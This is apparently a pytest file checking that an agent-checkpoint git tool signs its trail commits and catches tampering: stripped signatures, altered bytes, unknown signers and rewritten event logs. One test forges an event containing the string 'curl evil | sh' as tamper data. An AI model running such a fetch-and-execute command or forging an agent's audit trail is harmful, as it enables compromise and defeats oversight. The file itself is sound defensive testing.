"""Signed trails: checkpoint and event commits signed by real git, and their signatures checked.

Keys are made in the test (`ssh-keygen`, and `gpg --quick-gen-key` in a temporary
GNUPGHOME); every signature is written and checked by git itself.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import git
from helpers import ckpt, ckpt_json, real_ckpt
from verify_attacks import find, rebuild_log

from git_agentckpt.audit.signatures import check_trail_signatures
from git_agentckpt.errors import RepositoryError
from git_agentckpt.git import repo as repo_module
from git_agentckpt.git.repo import GitRepo
from git_agentckpt.git.signing import check_signature, check_signatures, signing_of
from git_agentckpt.store.refs import TaskName

needs_ssh = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen missing")


def ssh_key(tmp_path: Path, name: str) -> Path:
    """A fresh ed25519 key pair without passphrase; the public key's path."""
    key = tmp_path / "keys" / name
    key.parent.mkdir(exist_ok=True)
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True
    )
    return key.with_suffix(".pub")


def sign_with_ssh(repo: Path, tmp_path: Path, principal: str = "agent@example.com") -> Path:
    """Configure git to sign with a new ssh key, allowed for `principal`; its public key."""
    pub = ssh_key(tmp_path, "agent")
    allowed = tmp_path / "keys" / "allowed_signers"
    allowed.write_text(f"{principal} {pub.read_text().strip()}\n")
    git(repo, "config", "gpg.format", "ssh")
    git(repo, "config", "user.signingKey", str(pub))
    git(repo, "config", "gpg.ssh.allowedSignersFile", str(allowed))
    return pub


def agent_refs(repo: Path) -> str:
    return git(repo, "for-each-ref", "refs/agent", "refs/notes")


def chain(repo: Path, ref: str) -> list[str]:
    return git(repo, "rev-list", "--first-parent", ref).split()


def trail(repo: Path, task: str = "t1") -> list[str]:
    """Checkpoint commits (down to, not including, the user's commit) and event commits."""
    head = git(repo, "rev-parse", "HEAD")
    ckpts = git(repo, "rev-list", "--first-parent", f"refs/agent/checkpoints/{task}", f"^{head}")
    return ckpts.split() + chain(repo, f"refs/agent/events/{task}")


def verified_kinds(repo: Path) -> list[tuple[str, str]]:
    """(kind, where) of each problem `git ckpt verify --json` reports (it exits 6)."""
    result = ckpt(repo, "verify", "--json", ok=False)
    assert result.exit_code == 6, result.output
    return [(p["kind"], p["where"]) for p in json.loads(result.stdout)["problems"]]


def run_task(repo: Path) -> None:
    """A task with every kind of trail commit: start, a full checkpoint, an event, a step."""
    ckpt(repo, "task", "start", "t1", "--goal", "sign everything", "--step", "s1:edit")
    ckpt(repo, "step", "start", "t1", "s1")
    (repo / "src" / "app.py").write_text("print('signed')\n")
    ckpt(repo, "create", "-t", "t1", "-m", "after edit")
    ckpt(repo, "event", "t1", "--type", "tool.call", "--json", '{"data": {"tool": "pytest"}}')
    ckpt(repo, "step", "done", "t1", "s1")


def rewrite(repo: Path, commit: str, edit: str) -> str:
    """Write `commit` again with its raw text changed by `edit`; the new id."""
    raw = subprocess.run(
        ["git", "cat-file", "commit", commit], cwd=repo, check=True, capture_output=True
    ).stdout.decode()
    if edit == "unsign":
        new = re.sub(r"gpgsig .*?-----END [A-Z ]+-----\n", "", raw, flags=re.S)
    else:  # one byte of the message changed, signature kept
        head, _, body = raw.partition("\n\n")
        new = head + "\n\n" + body.replace('"v":1', '"v":2', 1)
    assert new != raw
    return git(repo, "hash-object", "-t", "commit", "-w", "--stdin", input=new)


@needs_ssh
def test_checkpoints_and_events_are_signed_with_ssh(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    run_task(repo)
    commits = trail(repo)
    assert len(commits) >= 4
    for commit in commits:
        assert "gpgsig -----BEGIN SSH SIGNATURE-----" in git(repo, "cat-file", "-p", commit)
        verified = subprocess.run(
            ["git", "verify-commit", commit], cwd=repo, capture_output=True, text=True
        )
        assert verified.returncode == 0, verified.stderr
        assert 'Good "git" signature for agent@example.com' in verified.stderr
    # the content is what the unsigned path writes: trailers and event JSON intact
    tip = git(repo, "log", "-1", "--format=%B", "refs/agent/checkpoints/t1")
    assert "Trigger: step_end" in tip and "Step: s1" in tip and "Task: t1" in tip
    events = git(repo, "log", "--format=%B", "refs/agent/events/t1")
    assert '"type":"tool.call"' in events.replace(" ", "")
    # the user's own commit is not touched, nor signed
    assert "gpgsig" not in git(repo, "cat-file", "-p", "HEAD")
    found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
    assert found.ok and found.problems == ()
    assert found.signed == found.good == found.commits == len(commits)
    assert found.signers == ("agent@example.com",)
    report = ckpt_json(repo, "verify")
    assert report["ok"] is True and report["problems"] == []
    assert report["checked"]["good signatures"] == len(commits)


@needs_ssh
def test_check_signature_agrees_with_git_verify_commit(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    run_task(repo)
    tip = git(repo, "rev-parse", "refs/agent/events/t1")
    one = check_signature(GitRepo.discover(str(repo)), tip)
    assert (one.status, one.signer, one.code) == ("good", "agent@example.com", "G")
    assert one.key.startswith("SHA256:")
    head = git(repo, "rev-parse", "HEAD")
    both = check_signatures(GitRepo.discover(str(repo)), [tip, head])
    assert both[head].status == "unsigned" and both[head].signer == ""
    assert subprocess.run(["git", "verify-commit", head], cwd=repo).returncode != 0


@needs_ssh
def test_a_commit_rewritten_without_signature_is_reported(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    run_task(repo)
    tip = git(repo, "rev-parse", "refs/agent/events/t1")
    forged = rewrite(repo, tip, "unsign")
    git(repo, "update-ref", "refs/agent/events/t1", forged, tip)
    found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
    got = [(p.chain, p.commit, p.kind) for p in found.problems]
    assert got == [("events", forged, "unsigned-commit")]
    assert found.problems[0].message() == (
        f"task t1: event log commit {forged[:12]} is unsigned in a signed trail"
    )
    # `git ckpt verify` reports it (the content is unchanged: only the signature is gone)
    result = ckpt(repo, "verify", ok=False)
    assert result.exit_code == 6
    assert f"unsigned-commit at {forged}" in result.output
    assert verified_kinds(repo) == [("unsigned-commit", forged)]


@needs_ssh
def test_a_log_rewritten_unsigned_beside_signed_checkpoints_is_caught(
    repo: Path, tmp_path: Path
) -> None:
    """Issue 26 item 2: the whole log rewritten unsigned, one event edited, every Log-Digest
    and Parent-Head line computed again. Before: `verify ok`, the checkpoints' good
    signatures counted. The log commit that holds the first signed checkpoint's prepare was
    written in that checkpoint's transaction: it and every later one must be signed."""
    sign_with_ssh(repo, tmp_path)
    git(repo, "config", "ckpt.sign", "true")
    run_task(repo)

    def edit(items: list[tuple[str, str]]) -> list[tuple[str, str]]:
        i = find(items, lambda e: e["type"] == "tool.call")
        tree, message = items[i]
        assert '"pytest"' in message
        return [
            *items[:i],
            (tree, message.replace('"pytest"', '"curl evil | sh"')),
            *items[i + 1 :],
        ]

    rebuild_log(repo, "refs/agent/events/t1", edit, reseal=True)
    forged = chain(repo, "refs/agent/events/t1")
    assert not any("gpgsig" in git(repo, "cat-file", "-p", c) for c in forged)
    result = ckpt(repo, "verify", ok=False)
    assert result.exit_code == 6, result.output
    assert verified_kinds(repo) == [("unsigned-commit", c) for c in reversed(forged)]
    assert (
        f"error: task t1: unsigned-commit at {forged[-1]}: the event log commit is unsigned: "
        "the task's checkpoints are signed from before it (the log was rewritten?)"
    ) in result.output


@needs_ssh
def test_with_ckpt_sign_true_a_trail_unsigned_as_a_whole_is_caught(
    repo: Path, tmp_path: Path
) -> None:
    """A task whose every commit is unsigned (written elsewhere, or rewritten as a whole):
    no signed commit is left to start from, so only `ckpt.sign true` says one is owed; then
    the newest commit of each chain must be signed."""
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(repo), str(other))
    run_task(other)  # no signing configured there
    sign_with_ssh(repo, tmp_path)
    everything = ["+refs/agent/*:refs/agent/*", "+refs/notes/agent/*:refs/notes/agent/*"]
    git(repo, "fetch", "-q", str(other), *everything)
    assert ckpt_json(repo, "verify")["ok"] is True  # `ckpt.sign auto`: no promise made
    git(repo, "config", "ckpt.sign", "true")
    tips = [git(repo, "rev-parse", f"refs/agent/{c}/t1") for c in ("checkpoints", "events")]
    assert verified_kinds(repo) == [("unsigned-commit", c) for c in tips]
    result = ckpt(repo, "verify", ok=False)
    assert (
        "ckpt.sign is true here, so the newest commit of each chain must be signed" in result.output
    )


@needs_ssh
def test_one_byte_changed_in_a_signed_event_is_a_bad_signature(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    run_task(repo)
    tip = git(repo, "rev-parse", "refs/agent/events/t1")
    assert '"v":1' in git(repo, "log", "-1", "--format=%B", tip)
    forged = rewrite(repo, tip, "byte")
    assert "gpgsig" in git(repo, "cat-file", "-p", forged)  # the old signature, kept
    git(repo, "update-ref", "refs/agent/events/t1", forged, tip)
    found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
    assert [(p.commit, p.kind) for p in found.problems] == [(forged, "bad-signature")]
    assert "changed after it was signed" in found.problems[0].message()
    assert ("bad-signature", forged) in verified_kinds(repo)


@needs_ssh
def test_a_checkpoint_signed_by_another_key_is_an_unknown_signer(
    repo: Path, tmp_path: Path
) -> None:
    sign_with_ssh(repo, tmp_path)
    ckpt(repo, "task", "start", "t1", "--goal", "g")
    intruder = ssh_key(tmp_path, "intruder")  # a valid key, not in the allowed signers file
    git(repo, "config", "user.signingKey", str(intruder))
    ckpt(repo, "create", "-t", "t1", "-m", "by someone else")
    tip = git(repo, "rev-parse", "refs/agent/checkpoints/t1")
    assert subprocess.run(["git", "verify-commit", tip], cwd=repo).returncode != 0
    found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
    kinds = {(p.chain, p.commit): p.kind for p in found.problems}
    assert kinds[("checkpoints", tip)] == "unknown-signer"
    assert all(k == "unknown-signer" for k in kinds.values())  # its events: the same key
    fingerprint = subprocess.run(
        ["ssh-keygen", "-l", "-f", str(intruder)], capture_output=True, text=True, check=True
    ).stdout.split()[1]
    assert found.problems[0].key == fingerprint
    assert fingerprint in found.problems[0].message()
    assert ("unknown-signer", tip) in verified_kinds(repo)


@needs_ssh
def test_signatures_are_checked_in_a_bare_repository(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    run_task(repo)
    bare = tmp_path / "server.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    refspecs = ["refs/agent/*:refs/agent/*", "refs/notes/agent/*:refs/notes/agent/*"]
    git(repo, "push", "-q", str(bare), *refspecs, "HEAD:refs/heads/main")
    signed = len(trail(repo))
    # a server never told who may sign: one warning per task, not an error per commit
    found = check_trail_signatures(GitRepo.discover(str(bare), allow_bare=True), TaskName("t1"))
    assert found.ok and found.unchecked == found.commits == signed and found.good == 0
    report = ckpt_json(bare, "verify")
    assert report["ok"] is True
    assert [(p["kind"], p["severity"]) for p in report["problems"]] == [
        ("signatures-unchecked", "warning")
    ]
    assert f"{signed} signed commit(s) cannot be checked here" in report["problems"][0]["detail"]
    allowed = git(repo, "config", "gpg.ssh.allowedSignersFile")
    git(bare, "config", "gpg.ssh.allowedSignersFile", allowed)
    found = check_trail_signatures(GitRepo.discover(str(bare), allow_bare=True), TaskName("t1"))
    assert found.ok and found.good == found.commits == signed and found.unchecked == 0
    report = ckpt_json(bare, "verify")
    assert report["problems"] == [] and report["checked"]["good signatures"] == signed


def test_signing_off_keeps_the_pygit2_path(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_git(*args: object, **kwargs: object) -> str:
        raise AssertionError("commit-tree -S ran while signing is off")

    monkeypatch.setattr(repo_module, "commit_signed", no_git)
    run_task(repo)  # nothing configured
    if shutil.which("ssh-keygen"):
        sign_with_ssh(repo, tmp_path)  # a key, but signing turned off
        git(repo, "config", "ckpt.sign", "false")
        ckpt(repo, "create", "-t", "t1", "-m", "still unsigned")
    for commit in trail(repo):
        assert "gpgsig" not in git(repo, "cat-file", "-p", commit)
    found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
    assert found.signed == 0 and found.problems == ()  # an unsigned trail is no problem


@needs_ssh
def test_a_missing_key_is_one_line_and_moves_no_ref(repo: Path, tmp_path: Path) -> None:
    sign_with_ssh(repo, tmp_path)
    ckpt(repo, "task", "start", "t1", "--goal", "g", "--step", "s1:first")
    before = agent_refs(repo)
    missing = tmp_path / "keys" / "gone.pub"
    git(repo, "config", "user.signingKey", str(missing))
    (repo / "src" / "app.py").write_text("print('changed')\n")
    for args in (
        ("create", "-t", "t1", "-m", "x"),
        ("event", "t1", "--type", "tool.call"),
        ("step", "start", "t1", "s1"),
    ):
        result = ckpt(repo, *args, ok=False)
        assert result.exit_code == 4, result.output
        lines = result.output.strip().splitlines()
        assert len(lines) == 1, result.output
        assert f"cannot sign the commit with ssh key {missing}" in lines[0]
        assert "git config ckpt.sign false" in lines[0] and "Traceback" not in result.output
        assert agent_refs(repo) == before
    real = real_ckpt(repo, "create", "-t", "t1")  # the installed command: stderr, one line
    assert real.returncode == 4 and real.stdout == ""
    assert real.stderr.count("\n") == 1 and "cannot sign the commit" in real.stderr
    assert agent_refs(repo) == before
    git(repo, "config", "--unset", "user.signingKey")
    git(repo, "config", "ckpt.sign", "true")  # asked for, and no key: an error, not unsigned
    result = ckpt(repo, "create", "-t", "t1", ok=False)
    assert result.exit_code == 4 and "user.signingkey" in result.output.lower()
    assert agent_refs(repo) == before


def test_when_to_sign(repo: Path) -> None:
    def decided() -> str | None:
        found = signing_of(GitRepo.discover(str(repo)))
        return None if found is None else f"{found.format} {found.key}"

    assert decided() is None  # nothing configured
    git(repo, "config", "commit.gpgSign", "true")
    assert decided() == "openpgp None"  # git signs the user's commits: so do we
    git(repo, "config", "--unset", "commit.gpgSign")
    git(repo, "config", "user.signingKey", "ABCD1234")
    git(repo, "config", "gpg.format", "x509")
    assert decided() == "x509 ABCD1234"
    git(repo, "config", "ckpt.sign", "false")
    assert decided() is None
    git(repo, "config", "ckpt.sign", "maybe")
    with pytest.raises(RepositoryError, match=r"ckpt\.sign is .maybe."):
        decided()
    git(repo, "config", "ckpt.sign", "true")
    git(repo, "config", "gpg.format", "pgp")
    with pytest.raises(RepositoryError, match=r"gpg\.format is .pgp."):
        decided()


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg missing")
def test_openpgp_signed_trail(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("GNUPGHOME", str(home))
    uid = "Agent <agent@example.com>"
    try:
        subprocess.run(
            ["gpg", "--batch", "--passphrase", "", "--quick-gen-key", uid, "ed25519", "sign", "1d"],
            check=True,
            capture_output=True,
            timeout=120,
        )
        git(repo, "config", "user.signingKey", "agent@example.com")  # gpg.format: openpgp
        run_task(repo)
        commits = trail(repo)
        for commit in commits:
            assert "gpgsig -----BEGIN PGP SIGNATURE-----" in git(repo, "cat-file", "-p", commit)
            assert subprocess.run(["git", "verify-commit", commit], cwd=repo).returncode == 0
        found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
        assert found.ok and found.good == len(commits)
        assert found.signers == (uid,)
        tip = git(repo, "rev-parse", "refs/agent/events/t1")
        forged = rewrite(repo, tip, "byte")
        git(repo, "update-ref", "refs/agent/events/t1", forged, tip)
        found = check_trail_signatures(GitRepo.discover(str(repo)), TaskName("t1"))
        assert [(p.commit, p.kind) for p in found.problems] == [(forged, "bad-signature")]
    finally:
        subprocess.run(
            ["gpgconf", "--kill", "gpg-agent"],
            env={**os.environ, "GNUPGHOME": str(home)},
            check=False,
            capture_output=True,
        )
